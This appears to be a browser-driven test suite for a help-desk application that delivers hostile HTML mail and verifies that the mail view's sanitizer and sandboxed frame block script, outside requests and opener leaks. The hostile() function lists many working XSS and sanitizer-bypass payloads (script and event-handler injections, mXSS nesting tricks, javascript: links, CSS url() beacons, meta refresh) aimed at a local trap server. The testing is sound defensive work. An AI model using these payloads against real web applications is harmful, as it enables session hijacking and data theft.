// Mail of people who mean no good, handed over as mail servers do and looked
// at in a real browser: nothing of it runs, goes out or leaves its frame.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { start, freePort, deliver } from './site.mjs';

const address = 'help@bjorkenas.example';
let site, lmtp, trap;
const caught = []; // requests that reached the trap

before(async () => {
  lmtp = await freePort();
  const port = await freePort();
  trap = http.createServer((q, a) => {
    caught.push({ url: q.url, referer: q.headers.referer });
    a.setHeader('Content-Type', 'text/html; charset=utf-8');
    a.end('<!doctype html><link rel="icon" href="data:,">caught'); // or a browser asks for a picture of the page, some time
  });
  await new Promise((done) => trap.listen(port, '127.0.0.1', done));
  trap.at = `http://127.0.0.1:${port}`;
  site = await start('--mail-lmtp', `127.0.0.1:${lmtp}`);
  const page = await manager();
  await page.goto('/desk/mailboxes');
  await page.fill('#add-form [name="address"]', address);
  await page.locator('#add-form button[type="submit"]').click();
  assert.match(await page.locator('main').innerText(), new RegExp(address));
  await page.context().close();
});
after(async () => {
  await site.stop();
  await new Promise((done) => trap.close(done));
});

// manager is a visitor who may see every mail and every ticket, and notes what
// a page does that it should not.
async function manager(options) {
  const page = await site.visitor('Agneta Lindmark', { lang: 'da', ...options });
  page.misdeeds = [];
  page.on('dialog', (d) => { page.misdeeds.push('a dialog: ' + d.message()); d.dismiss(); });
  page.on('request', (q) => { if (!q.url().startsWith(site.base + '/') && !/^(data|about):/.test(q.url())) page.misdeeds.push('a request: ' + q.url()); });
  page.context().on('page', (p) => page.misdeeds.push('a window: ' + p.url()));
  page.on('download', (d) => page.misdeeds.push('a download: ' + d.url()));
  return page;
}

// head begins a mail from somebody nobody knows, who is called like an attack.
function head(n, subject = `Prøve ${n}`) {
  const words = '=?utf-8?B?' + Buffer.from(subject).toString('base64') + '?=';
  return `From: "<img src=x onerror=alert(1)>" <stranger${n}@elsewhere.example>\nTo: ${address}\nSubject: ${words}\nMessage-ID: <hostile-${n}@elsewhere.example>\nDate: Wed, 15 Apr 2026 09:00:00 +0200\nMIME-Version: 1.0\n`;
}
const page = (html, n, subject) => head(n, subject) + 'Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n' + Buffer.from(html).toString('base64').replace(/(.{76})/g, '$1\n') + '\n';

// hostile is what others were got at by, and ways around whoever cleans: TRAP
// is where it would be seen if anything went out.
function hostile() {
  const t = trap.at;
  const run = `alert(1);new Image().src='${t}/ran';parent.document.title='taken';top.location='${t}/top'`;
  return [
    `<script>${run}</script>`, `<SCRIPT SRC="${t}/x.js"></SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<img src="x" onerror="${run}">`, `<body onload="${run}">x`,
    `<svg onload="${run}"><script>${run}</script><image href="${t}/svg.png"/><use href="${t}/u.svg#a"/></svg>`, `<svg><style>@import "${t}/svg.css";</style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
    `<meta http-equiv="refresh" content="0;url=${t}/refresh">`, `<base href="${t}/"><a href="x">x</a><img src="y.png">`, `<link rel="stylesheet" href="${t}/x.css"><link rel="preconnect" href="${t}"><link rel="dns-prefetch" href="${t}"><link rel="prefetch" href="${t}/p"><link rel="icon" href="${t}/i.png">`,
    `<style>@import url(${t}/i.css); @font-face{font-family:x;src:url(${t}/f.woff)} body{font-family:x;background:url(${t}/b.png)} body::before{content:url(${t}/c.png)}</style><p>x</p>`,
    `<div style="background:url(${t}/s.png)">x</div><div style="background-image:\\75rl(${t}/e.png)">x</div><ul style="list-style:url(${t}/l.png)"><li>x</ul><p style="cursor:url(${t}/c.cur),auto;position:fixed;inset:0;z-index:9">x</p>`,
    `<iframe src="${t}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${t}/o"></object><embed src="${t}/e"><applet code="${t}/a"></applet><portal src="${t}/p"></portal>`,
    `<form action="${t}/form" method="post"><input name="password" autofocus onfocus="${run}"><button formaction="${t}/button">OK</button></form><isindex action="${t}/i" type="image">`,
    `<a href="javascript:${run}">x</a><a href="JaVaScRiPt:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a><a href="//127.0.0.1/x">x</a><a href="/sign-out">x</a><a href="${t}/link" ping="${t}/ping" target="_top" rel="opener">x</a>`,
    `<img src="${t}/1.png"><img src="https://elsewhere.example/2.png" srcset="${t}/3.png 1x"><picture><source srcset="${t}/4.png"><img src="${t}/5.png"></picture><input type="image" src="${t}/6.png"><table background="${t}/7.png"><tr><td background="${t}/8.png">x</table><video poster="${t}/9.png" autoplay src="${t}/v.mp4"><track src="${t}/t.vtt" default></video><audio autoplay src="${t}/a.mp3"></audio><bgsound src="${t}/b.wav">`,
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${t}/d.png"/></svg>`).toString('base64')}"><img src="data:text/html,<script>alert(1)</script>">`,
    `<template><img src=x onerror="${run}"></template><slot></slot><details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">x</marquee><p hx-get="/account" hx-trigger="load" data-dialog="x" data-live="x">x</p>`,
    `<title>x</title></title></head></iframe></div></div></main></body></html><script>${run}</script><h1>Udenfor</h1>`, `</pre></textarea></style></script>--><img src=x onerror="${run}">`, '<!--><img src=x onerror=alert(1)>-->', '<plaintext><img src=x onerror=alert(1)>',
    '<div>'.repeat(3000) + `<img src="${t}/deep.png">`,
  ];
}

// received are the n mails that came last, when all are dealt with.
async function received(visitor, n) {
  for (let i = 0; i < 100; i++) {
    await visitor.goto('/desk/mail?state=received');
    const figure = await visitor.locator('a.figure[href$="state=received"]').innerText();
    if (/^0\b/.test(figure.trim())) break;
    await visitor.waitForTimeout(300);
  }
  const found = [];
  for (let at = '/desk/mail'; at && found.length < n; ) {
    await visitor.goto(at);
    found.push(...await visitor.locator('#mails tbody a[href^="/desk/mail/"]').evaluateAll((all) => all.map((a) => a.getAttribute('href'))));
    const older = visitor.locator('#mails a[href*="after="]').first();
    at = await older.count() ? await older.getAttribute('href') : '';
  }
  return found.slice(0, n);
}

// looked opens the frame of a mail on a page that stands, and says what is
// wrong with it.
async function looked(visitor, outside) {
  const handle = await visitor.locator('iframe.mail-frame').elementHandle().catch(async () => null);
  if (!handle) return [`the frame is gone: ${visitor.url()} ${await visitor.locator('main').innerHTML().then((h) => h.slice(0, 2000))}`];
  const frame = await handle.contentFrame();
  await frame.waitForLoadState('load');
  await visitor.waitForTimeout(150);
  const wrong = visitor.misdeeds.splice(0);
  if (!frame.url().includes('/frame')) wrong.push('the frame went to ' + frame.url());
  if (visitor.url() !== outside.url) wrong.push('the page went to ' + visitor.url());
  if (await shape(visitor) !== outside.shape) wrong.push('the page around it changed: ' + differ(outside.shape, await shape(visitor)));
  wrong.push(...await frame.evaluate(() => {
    const wrong = [];
    const never = 'script, svg, math, iframe, object, embed, form, input, button, link, meta:not([charset]), base, video, audio, template, textarea, select, details';
    for (const e of document.querySelectorAll(never)) wrong.push('it holds ' + e.outerHTML.slice(0, 80));
    for (const e of document.querySelectorAll('*')) for (const a of e.attributes) if (/^(on|hx-|data-)|^(srcdoc|ping|srcset|background|formaction)$/i.test(a.name)) wrong.push(`<${e.tagName} ${a.name}>`);
    for (const a of document.querySelectorAll('a[href]')) {
      if (!/^(https?|mailto|tel):/.test(a.getAttribute('href'))) wrong.push('a link to ' + a.getAttribute('href'));
      if (!a.relList.contains('noreferrer') || /^http/.test(a.getAttribute('href')) && (!a.relList.contains('noopener') || a.target !== '_blank')) wrong.push('a link without its rel: ' + a.outerHTML.slice(0, 120));
    }
    if (window.origin !== 'null') wrong.push('it is of the origin ' + window.origin);
    return wrong;
  }));
  return wrong;
}

// differ is where two shapes part.
function differ(a, b) {
  let i = 0;
  while (i < a.length && a[i] === b[i]) i++;
  return JSON.stringify([a.slice(i - 60, i + 60), b.slice(i - 60, i + 60)]);
}

// shape is everything on a page but what its own script changes by the minute:
// who else is there, and what htmx has already seen.
const shape = (visitor) => visitor.evaluate(() => {
  const body = document.body.cloneNode(true);
  body.querySelectorAll('#presence, [aria-live]').forEach((e) => e.remove());
  body.querySelectorAll('*').forEach((e) => { e.removeAttribute('data-htmx-powered'); e.classList.forEach((c) => { if (c.startsWith('htmx')) e.classList.remove(c); }); if (!e.classList.length) e.removeAttribute('class'); });
  return document.title + body.outerHTML;
});

test('WB-01 mail of every hostile kind does nothing on the page of mail', { timeout: 480_000 }, async () => {
  const visitor = await manager();
  const all = hostile();
  await deliver(lmtp, address, all.map((html, n) => page(html, n, `Emne <script>alert(${n})</script>`)));
  const mails = await received(visitor, all.length);
  assert.equal(mails.length, all.length, 'every mail is there');
  const wrong = [];
  for (const at of mails) {
    await visitor.goto(at);
    const outside = { url: visitor.url(), shape: await shape(visitor) };
    wrong.push(...(await looked(visitor, outside)).map((w) => `${at}: ${w}`));
    assert.match(await visitor.locator('h1').innerText(), /<script>alert/, 'the subject is text');
    wrong.push(...visitor.problems.splice(0).filter((p) => !/Content Security Policy|sandbox/.test(p)).map((p) => `${at}: ${p}`));
  }
  assert.deepEqual(wrong, []);
  assert.deepEqual(caught, [], 'nothing went out');
});

test('WB-01 mail in a ticket does nothing, opened in the thread and without script', { timeout: 480_000 }, async () => {
  const visitor = await manager(), plain = await manager({ javaScriptEnabled: false });
  await visitor.goto('/desk/mail?state=taken');
  const mails = await visitor.locator('#mails tbody a[href^="/desk/mail/"]').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
  const wrong = [];
  let opened = 0;
  for (const mail of mails) {
    await visitor.goto(mail);
    const ticket = await visitor.locator('main dl a[href^="/desk/tickets/"]').getAttribute('href');
    await visitor.goto(ticket);
    visitor.misdeeds.splice(0);
    const sent = visitor.locator('details.sent').first();
    await sent.locator('summary').click();
    await sent.locator('iframe.mail-frame').waitFor();
    const outside = { url: visitor.url(), shape: await shape(visitor) };
    wrong.push(...(await looked(visitor, outside)).map((w) => `${mail} in its ticket: ${w}`));
    await plain.goto(ticket);
    await plain.goto(await plain.locator('details.sent a').first().getAttribute('href'));
    wrong.push(...plain.misdeeds.splice(0).map((w) => `${mail} without script: ${w}`));
    assert.equal(await plain.locator('iframe.mail-frame').count(), 1);
    opened++;
  }
  assert.ok(opened >= 5, `only ${opened} tickets were opened by mail`);
  assert.deepEqual(wrong, []);
  assert.deepEqual(caught, [], 'nothing went out');
});

test('WB-01 a link of a mail opens a window of its own that learns nothing', { timeout: 180_000 }, async () => {
  const visitor = await manager();
  await deliver(lmtp, address, [page(`<p><a href="${trap.at}/followed" target="_top" rel="opener">Følg mig</a></p>`, 'link', 'Et link')]);
  await received(visitor, 1);
  await visitor.goto('/desk/mail');
  await visitor.getByRole('link', { name: 'Et link' }).first().click();
  const before = visitor.url();
  const [popup] = await Promise.all([visitor.context().waitForEvent('page'), visitor.frameLocator('iframe.mail-frame').getByText('Følg mig').click()]);
  await popup.waitForLoadState('load');
  assert.equal(await popup.evaluate(() => window.opener), null);
  assert.equal(await popup.evaluate(() => document.referrer), '');
  assert.equal(visitor.url(), before);
  const followed = caught.splice(0).filter((c) => c.url === '/followed');
  assert.deepEqual(followed, [{ url: '/followed', referer: undefined }]);
  await visitor.context().close();
});

test('WB-04 pictures from elsewhere wait until they are asked for', { timeout: 180_000 }, async () => {
  for (const javaScriptEnabled of [true, false]) {
    const visitor = await manager({ javaScriptEnabled });
    const fetched = [];
    await visitor.context().route('https://pictures.example/**', (route) => {
      fetched.push(route.request().url());
      return route.fulfill({ contentType: 'image/png', body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64') });
    });
    const subject = 'Nyhedsbrev ' + javaScriptEnabled;
    await deliver(lmtp, address, [page('<link rel="stylesheet" href="https://pictures.example/x.css"><style>@font-face{font-family:x;src:url(https://pictures.example/f.woff)}p{font-family:x}</style><p>Hej</p><img src="https://pictures.example/1.png"><img width="1" height="1" src="https://pictures.example/pixel.png">', subject, subject)]);
    await received(visitor, 1);
    await visitor.goto('/desk/mail');
    await visitor.getByRole('link', { name: subject }).first().click();
    await visitor.waitForTimeout(300);
    assert.deepEqual(fetched, [], 'before anybody asked');
    assert.match(await visitor.locator('.mail .alert').innerText(), /\b2 billeder/);
    visitor.misdeeds.splice(0);
    await visitor.getByRole('link', { name: 'Vis billederne' }).click();
    await visitor.getByText('afsenderen kan se, at mailen er åbnet').waitFor();
    for (let i = 0; i < 300 && fetched.length < 2; i++) await visitor.waitForTimeout(100);
    assert.deepEqual(fetched.sort(), ['https://pictures.example/1.png', 'https://pictures.example/pixel.png'], 'the pictures and nothing else');
    await visitor.context().close();
  }
});

// Real mail of many programs, where it lies beside the project.
const kept = resolve(import.meta.dirname, '../../../shared/fixtures/mail');
const elsewhere = process.env.OVERGANG_FIXTURES ? join(process.env.OVERGANG_FIXTURES, 'mail') : kept;
test('WB-01 real mail of many programs sends nothing either', { timeout: 480_000, skip: !existsSync(elsewhere) && 'no fixtures here' }, async () => {
  const visitor = await manager();
  const files = readdirSync(elsewhere, { recursive: true }).map((f) => join(elsewhere, f)).filter((f) => /\.eml$|\/mime\/[a-z]+\/[^/]+$/.test(f) && statSync(f).isFile() && statSync(f).size < 1 << 20);
  const html = files.filter((f) => /text\/html/i.test(readFileSync(f, 'latin1'))).slice(0, 40);
  await deliver(lmtp, address, html.map((f) => readFileSync(f)));
  const wrong = [];
  for (const at of await received(visitor, html.length)) {
    await visitor.goto(at);
    if (!await visitor.locator('iframe.mail-frame').count()) continue; // a mail that cannot be read says so
    wrong.push(...(await looked(visitor, { url: visitor.url(), shape: await shape(visitor) })).map((w) => `${at}: ${w}`));
  }
  assert.ok(html.length > 20, `only ${html.length} mails with HTML`);
  assert.deepEqual(wrong, []);
  assert.deepEqual(caught, [], 'nothing went out');
});
